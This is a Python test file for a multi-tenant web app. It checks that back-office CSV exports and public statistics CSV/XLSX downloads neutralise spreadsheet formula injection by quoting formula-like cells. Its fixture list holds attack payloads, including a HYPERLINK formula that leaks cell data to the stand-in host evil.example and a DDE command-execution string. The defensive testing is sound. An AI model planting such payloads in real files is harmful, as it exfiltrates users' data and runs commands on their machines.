"""Exports never hand Excel a formula (R-25): back-office list CSVs and statistics downloads.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a CR gets a leading single quote; numbers stay numbers.
"""

import csv
import io

from openpyxl import load_workbook
from sqlalchemy import select

from app.auth.operations import find_user
from app.board.models import BoardMember
from app.core.models import Tenant
from app.extensions import db
from app.news.models import Article
from app.statistics.models import Dataset
from app.workflow.models import ReviewState

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Xem")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]  # fmt: skip
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _csv(response):
    assert response.status_code == 200, response.status_code
    return list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))


def _unsafe(cells):
    """Cells a spreadsheet would run: text starting like a formula that is not a plain number."""
    return [c for c in cells if isinstance(c, str) and c.startswith(TRIGGERS) and not c.lstrip("+-").isdigit()]


def _tenant(code):
    return db.session.execute(select(Tenant).where(Tenant.code == code)).scalars().one()


def test_back_office_list_exports_guard_every_cell(app, client_for, make_user):
    """R-25: /admin/<view>/export/csv/ of articles quotes formula-like titles; a related column exports in full."""
    editor = make_user("editor", "stc")
    with app.app_context():
        stc, user = _tenant("stc"), find_user(editor)
        for n, title in enumerate(FORMULAS):
            db.session.add(Article(tenant_id=stc.id, title=title, slug=f"bai-{n}", author_id=user.id))
        db.session.add(BoardMember(tenant_id=stc.id, position="member", name="=1+1", user_id=user.id))
        db.session.commit()
    client = client_for("stc")
    client.login(editor)
    rows = _csv(client.get("/admin/news_articles/export/csv/"))
    cells = [c for row in rows for c in row]
    assert _unsafe(cells) == []
    for title in FORMULAS:  # stored stripped (the declared TEXT field), exported quoted
        assert "'" + title.strip() in cells, title
    admin = client_for("stc")
    admin.login(make_user("tenant_admin", "stc"))
    board = _csv(admin.get("/admin/board_members/export/csv/"))
    assert len(board) == 2 and "'=1+1" in board[1] and editor in board[1]  # the user's email, a relation


def test_statistics_downloads_guard_text_and_keep_numbers(app, client_for):
    """R-25, R-21: the public CSV and XLSX of a dataset quote formula-like text; -5 stays the number -5."""
    observations = [
        {"indicator": "=1+1", "area": "-2+3", "period": "2024", "value": -5, "unit": "@%", "note": ""},
        {"indicator": "Dân số", "area": "Đồng Xoài", "period": "2024", "value": 112500, "unit": "người", "note": ""},
    ]
    with app.app_context():
        db.session.add(Dataset(tenant_id=_tenant("ctk").id, slug="an-toan", title="=HYPERLINK(\"x\")",
                               state=ReviewState.PUBLISHED, observations=observations))  # fmt: skip
        db.session.commit()
    client = client_for("ctk")
    rows = _csv(client.get("/statistics/an-toan.csv"))
    assert _unsafe([c for row in rows for c in row]) == []
    assert ["'=1+1", "'-2+3", "2024", "-5", "'@%", ""] in rows
    book = load_workbook(io.BytesIO(client.get("/statistics/an-toan.xlsx").data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
    assert _unsafe([cell.value for cell in cells]) == []
    values = [cell.value for cell in cells]
    assert "'=1+1" in values and -5 in values and '\'=HYPERLINK("x")' in values
